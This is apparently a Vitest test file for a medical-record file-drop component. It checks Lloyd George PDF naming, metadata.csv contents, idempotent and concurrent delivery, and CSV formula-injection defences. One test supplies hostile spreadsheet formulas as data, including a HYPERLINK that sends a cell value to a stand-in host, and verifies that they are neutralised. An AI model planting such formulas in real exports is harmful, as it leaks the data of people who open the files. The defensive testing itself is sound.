import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isValidNhsNumber } from '../../src/core/nhs-number.ts';
import { createFileDropSink } from '../../src/sinks/file-drop/file-drop-sink.ts';
import { lloydGeorgeFileName } from '../../src/sinks/file-drop/lloyd-george-name.ts';
import type { DeliverableDocument } from '../../src/sinks/sink.ts';
import { expectRectoError } from '../support/expect-error.ts';

/** The Lloyd George file drop on real folders, including two processes delivering at once. */

const ROOT = path.resolve(import.meta.dirname, '../..');
const HEADER = 'FILEPATH,PAGE COUNT,GP-PRACTICE-CODE,NHS-NO,SECTION,SUB-SECTION,SCAN-DATE,SCAN-ID,USER-ID,UPLOAD';
/** The National Document Repository's own file name check, ported from its validator. */
const NDR_FILE_NAME = /^[0-9]+of[0-9]+_Lloyd_George_Record_\[[-'A-Za-z \u00C0-\u017E\u0300-\u036F]+\]_\[[0-9]{10}\]_\[\d\d-\d\d-\d\d\d\d\]\.pdf$/;
const FAMILIES = ['Ashby', 'Brennan', 'Carver', 'Dunmore', 'Ellery', 'Fenwick', 'Garside', 'Holloway', 'Ingram', 'Jessop', 'Kearney', 'Lavelle', 'Marlow', 'Northcott', 'Oakley', 'Pennock', 'Quarrie', 'Redfern', 'Stainton', 'Tillotson'];
const DROPPED_AT = new Date('2025-03-21T10:00:00Z');

let dir: string;
let scratch = 0;
beforeAll(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'recto-file-drop-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function freshFolder(): string {
  return path.join(dir, `drop-${++scratch}`);
}

/** Test-range NHS numbers (999 …) passing modulus 11, one per index. */
const NHS_NUMBERS = (() => {
  const numbers: string[] = [];
  for (let candidate = 9990000000; numbers.length < 40; candidate += 7919) {
    if (isValidNhsNumber(String(candidate))) numbers.push(String(candidate));
  }
  return numbers;
})();

function document(n: number, change: Partial<DeliverableDocument> = {}): DeliverableDocument {
  return {
    documentId: `doc_01JDQ7Z3K4V8W2M5N6P7Q8R${String(n).padStart(3, '0')}`,
    sha256: 'b'.repeat(64),
    pdf: Buffer.concat([Buffer.from(`%PDF-1.7\n% record ${n}\n`), randomBytes(2048)]),
    pageCount: 3,
    fileName: `lg-envelope-${n}.tif`,
    title: 'Lloyd George record',
    documentType: { key: 'gp-record', snomedCode: '184808007', display: 'GP record', confidence: 90, evidence: [] },
    patient: { nhsNumber: NHS_NUMBERS[n], given: ['Jane'], family: FAMILIES[n % FAMILIES.length], birthDate: '1950-02-01', gpPracticeOds: 'A81001' },
    custodianOds: 'RX1',
    scannedAt: '2025-03-14T09:15:00Z',
    userId: 'u.scanner',
    ...change,
  };
}

function sinkInto(folder: string) {
  return createFileDropSink({ folder, scanId: 'NORTHSCAN' }, { now: () => DROPPED_AT });
}

/** Every file below `root` (dot folders included) as `/`-separated relative paths. */
function filesUnder(root: string, folder = root): string[] {
  return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(folder, entry.name);
    return entry.isDirectory() ? filesUnder(root, full) : [path.relative(root, full).split(path.sep).join('/')];
  });
}

function metadataOf(folder: string): { text: string; rows: Record<string, string>[] } {
  const text = readFileSync(path.join(folder, 'metadata.csv'), 'utf8');
  return { text, rows: parse(text, { columns: true }) };
}

function pdfsUnder(folder: string): string[] {
  return filesUnder(folder).filter((file) => file.endsWith('.pdf'));
}

describe('file drop: names and metadata per the national convention', () => {
  it('writes the PDF under its GP practice, named exactly per the Lloyd George convention', async () => {
    const folder = freshFolder();
    const doc = document(0, { patient: { nhsNumber: NHS_NUMBERS[0], given: ['Jane'], family: 'Smith', birthDate: '1950-02-01', gpPracticeOds: 'a81001' } });
    const receipt = await sinkInto(folder).deliver(doc);

    const expected = `A81001/1of1_Lloyd_George_Record_[Jane Smith]_[${NHS_NUMBERS[0]}]_[01-02-1950].pdf`;
    expect(receipt).toEqual({ sink: 'lloyd-george', remoteId: expected, alreadyDelivered: false });
    expect(pdfsUnder(folder)).toEqual([expected]);
    expect(readFileSync(path.join(folder, expected)).equals(doc.pdf)).toBe(true);
    expect(path.basename(expected)).toMatch(NDR_FILE_NAME);
  });

  it('writes metadata.csv with the national staging columns and values', async () => {
    const folder = freshFolder();
    // 23:30 UTC on 14 June is 00:30 on 15 June in England (BST): the scan date is the English day.
    await sinkInto(folder).deliver(document(1, { scannedAt: '2025-06-14T23:30:00Z', pageCount: 7 }));
    await sinkInto(folder).deliver(document(2, { userId: undefined }));

    const { text, rows } = metadataOf(folder);
    expect(text.split('\r\n')[0]).toBe(HEADER);
    expect(text.endsWith('\r\n')).toBe(true);
    const byNhs = Object.fromEntries(rows.map((row) => [row['NHS-NO'], row]));
    expect(byNhs[NHS_NUMBERS[1]]).toEqual({
      FILEPATH: `A81001/1of1_Lloyd_George_Record_[Jane Brennan]_[${NHS_NUMBERS[1]}]_[01-02-1950].pdf`,
      'PAGE COUNT': '7',
      'GP-PRACTICE-CODE': 'A81001',
      'NHS-NO': NHS_NUMBERS[1],
      SECTION: 'LG',
      'SUB-SECTION': '',
      'SCAN-DATE': '15/06/2025',
      'SCAN-ID': 'NORTHSCAN',
      'USER-ID': 'u.scanner',
      UPLOAD: '21/03/2025',
    });
    expect(byNhs[NHS_NUMBERS[2]]).toMatchObject({ 'SCAN-DATE': '14/03/2025', 'USER-ID': 'RECTO' });
    for (const row of rows) expect(filesUnder(folder)).toContain(row.FILEPATH);
  });

  it('neutralises formula-like cells in metadata.csv, and keeps them so when the file is rewritten', async () => {
    const folder = freshFolder();
    const hostile: Array<[string, string]> = [
      ['=HYPERLINK("http://x/?leak="&D2,"Open")', `'=HYPERLINK("http://x/?leak="&D2,"Open")`],
      ['+1', "'+1"],
      ['-1', "'-1"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\tcmd', "'\tcmd"],
      ['\r=1+1', "'\r=1+1"],
      ['a=1', 'a=1'],
    ];
    for (const [index, [userId]] of hostile.entries()) await sinkInto(folder).deliver(document(10 + index, { userId }));
    // One more delivery reads the CSV back and rewrites it: cells already neutralised stay as they are.
    await sinkInto(folder).deliver(document(20));

    const { text, rows } = metadataOf(folder);
    expect(rows).toHaveLength(hostile.length + 1);
    const userIds = Object.fromEntries(rows.map((row) => [row['NHS-NO'], row['USER-ID']]));
    for (const [index, [, expected]] of hostile.entries()) expect(userIds[NHS_NUMBERS[10 + index]], hostile[index][0]).toBe(expected);
    // No line of the file starts a cell with a formula character, quoted or not.
    for (const cell of text.split(/,|\r\n/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps only the characters the convention allows in the name, brackets included', () => {
    const name = (given: string[], family: string) =>
      lloydGeorgeFileName({ given, family, nhsNumber: NHS_NUMBERS[3], birthDate: '1961-12-09' });
    expect(name(['Mary-Jane', 'Zoë'], 'O’Connor (née Smith)')).toBe(`1of1_Lloyd_George_Record_[Mary-Jane Zoë O'Connor née Smith]_[${NHS_NUMBERS[3]}]_[09-12-1961].pdf`);
    expect(name(['J.R.'], 'St. John [2]/\\:*?"<>|')).toBe(`1of1_Lloyd_George_Record_[JR St John]_[${NHS_NUMBERS[3]}]_[09-12-1961].pdf`);
    for (const family of ['O’Connor (née Smith)', 'St. John [2]/\\:*?"<>|', 'Ngũgĩ', 'Łukasz_Nowak']) {
      expect(path.basename(name(['Ann'], family)!)).toMatch(NDR_FILE_NAME);
    }
    expect(name([], '李')).toBeNull();
  });

  it('refuses for good a patient without a GP practice code or a usable name', async () => {
    const folder = freshFolder();
    const noPractice = document(4, { patient: { ...document(4).patient, gpPracticeOds: undefined } });
    expect((await expectRectoError(sinkInto(folder).deliver(noPractice), 'SINK_REJECTED')).message).toContain('GP-PRACTICE-CODE');
    const unnamable = document(5, { patient: { ...document(5).patient, given: [], family: '李' } });
    await expectRectoError(sinkInto(folder).deliver(unnamable), 'SINK_REJECTED');
    expect(existsSync(folder) ? pdfsUnder(folder) : []).toEqual([]);
  });
});

describe('file drop: all-or-nothing and idempotent', () => {
  it('leaves no temporary files behind', async () => {
    const folder = freshFolder();
    for (let n = 6; n < 9; n++) await sinkInto(folder).deliver(document(n));
    expect(filesUnder(folder).filter((file) => file.endsWith('.tmp'))).toEqual([]);
  });

  it('delivering the same document twice leaves one file and one row, and says so', async () => {
    const folder = freshFolder();
    const doc = document(9);
    const first = await sinkInto(folder).deliver(doc);
    const second = await sinkInto(folder).deliver(doc);
    expect(first.alreadyDelivered).toBe(false);
    expect(second).toEqual({ ...first, alreadyDelivered: true });
    expect(pdfsUnder(folder)).toHaveLength(1);
    expect(metadataOf(folder).rows).toHaveLength(1);
  });

  it('re-delivers to the first file name even if the patient name was corrected since', async () => {
    const folder = freshFolder();
    const doc = document(10);
    const first = await sinkInto(folder).deliver(doc);
    const renamed = { ...doc, patient: { ...doc.patient, family: 'Corrected' } };
    expect(await sinkInto(folder).deliver(renamed)).toEqual({ ...first, alreadyDelivered: true });
    expect(pdfsUnder(folder)).toEqual([first.remoteId]);
  });

  it('refuses a second, different document for a patient already in the drop (one record per patient)', async () => {
    const folder = freshFolder();
    const first = await sinkInto(folder).deliver(document(11));
    const other = document(12, { patient: document(11).patient });
    const error = await expectRectoError(sinkInto(folder).deliver(other), 'SINK_REJECTED');
    expect(error.message).toContain(first.remoteId);
    expect(pdfsUnder(folder)).toEqual([first.remoteId]);
    expect(metadataOf(folder).rows).toHaveLength(1);
  });

  it('never overwrites a file it did not put there', async () => {
    const folder = freshFolder();
    const doc = document(13);
    const name = lloydGeorgeFileName(doc.patient)!;
    const foreign = path.join(folder, 'A81001', name);
    mkdirSync(path.dirname(foreign), { recursive: true });
    writeFileSync(foreign, 'scanned by someone else');
    await expectRectoError(sinkInto(folder).deliver(doc), 'SINK_REJECTED');
    expect(readFileSync(foreign, 'utf8')).toBe('scanned by someone else');
    // Once the file is moved away, the same document goes through.
    rmSync(foreign);
    expect((await sinkInto(folder).deliver(doc)).alreadyDelivered).toBe(false);
  });

  it('mends metadata.csv when it was lost after a delivery (the ledger is the truth)', async () => {
    const folder = freshFolder();
    await sinkInto(folder).deliver(document(14));
    rmSync(path.join(folder, 'metadata.csv'));
    await sinkInto(folder).deliver(document(15));
    expect(metadataOf(folder).rows.map((row) => row['NHS-NO']).sort()).toEqual([NHS_NUMBERS[14], NHS_NUMBERS[15]].sort());
  });
});

describe('file drop: concurrent deliveries', () => {
  it('10 documents delivered at once give 10 PDFs and 10 rows', async () => {
    const folder = freshFolder();
    const docs = Array.from({ length: 10 }, (_, i) => document(16 + i));
    const receipts = await Promise.all(docs.map((doc) => sinkInto(folder).deliver(doc)));
    expect(receipts.every((receipt) => !receipt.alreadyDelivered)).toBe(true);
    expect(pdfsUnder(folder)).toHaveLength(10);
    const { rows } = metadataOf(folder);
    expect(rows).toHaveLength(10);
    expect(rows.map((row) => row.FILEPATH).sort()).toEqual(pdfsUnder(folder).sort());
    expect(filesUnder(folder).filter((file) => file.endsWith('.tmp'))).toEqual([]);
  });

  it('two processes delivering 10 documents each, 4 of them the same, give 16 PDFs and 16 rows', async () => {
    const folder = freshFolder();
    const worker = path.join(dir, `drop-worker-${scratch}.mjs`);
    const sinkModule = path.join(ROOT, 'src/sinks/file-drop/file-drop-sink.ts');
    writeFileSync(
      worker,
      `import { createFileDropSink } from ${JSON.stringify(sinkModule)};
       const [folder, startAt, docsJson] = process.argv.slice(2);
       const docs = JSON.parse(docsJson).map((doc) => ({ ...doc, pdf: Buffer.from(doc.pdf, 'base64') }));
       while (Date.now() < Number(startAt));
       const sink = createFileDropSink({ folder });
       const startedAt = performance.timeOrigin + performance.now();
       const receipts = await Promise.all(docs.map((doc) => sink.deliver(doc)));
       const endedAt = performance.timeOrigin + performance.now();
       console.log(JSON.stringify({ receipts, window: [startedAt, endedAt] }));`,
    );
    const toJson = (docs: DeliverableDocument[]) => JSON.stringify(docs.map((doc) => ({ ...doc, pdf: doc.pdf.toString('base64') })));
    const shared = [26, 27, 28, 29].map((n) => document(n));
    const forA = [...shared, ...[30, 31, 32, 33, 34, 35].map((n) => document(n))];
    const forB = [...[...shared].reverse(), ...[36, 37, 38, 39].map((n) => document(n)), document(0), document(1)];
    const startAt = Date.now() + 2500;
    const run = promisify(execFile);
    const outputs = await Promise.all(
      [forA, forB].map((docs) => run(process.execPath, ['--import', 'tsx', worker, folder, String(startAt), toJson(docs)], { cwd: ROOT, timeout: 60_000 })),
    );
    const reports = outputs.map((output) => JSON.parse(output.stdout) as { receipts: Array<{ remoteId: string; alreadyDelivered: boolean }>; window: [number, number] });
    // Only a test of the race if the two really delivered at the same time: their windows overlap.
    const [a, b] = reports.map((report) => report.window);
    expect(a[0] < b[1] && b[0] < a[1], JSON.stringify([a, b])).toBe(true);
    const receipts = reports.flatMap((report) => report.receipts);

    expect(pdfsUnder(folder)).toHaveLength(16);
    const { rows } = metadataOf(folder);
    expect(rows).toHaveLength(16);
    expect(new Set(rows.map((row) => row.FILEPATH)).size).toBe(16);
    expect(rows.map((row) => row.FILEPATH).sort()).toEqual(pdfsUnder(folder).sort());
    // Each shared document was created by exactly one of the two processes.
    for (const doc of shared) {
      const mine = receipts.filter((receipt) => receipt.remoteId.includes(doc.patient.nhsNumber));
      expect(mine).toHaveLength(2);
      expect(mine.filter((receipt) => !receipt.alreadyDelivered)).toHaveLength(1);
    }
    expect(filesUnder(folder).filter((file) => file.endsWith('.tmp'))).toEqual([]);
  });
});
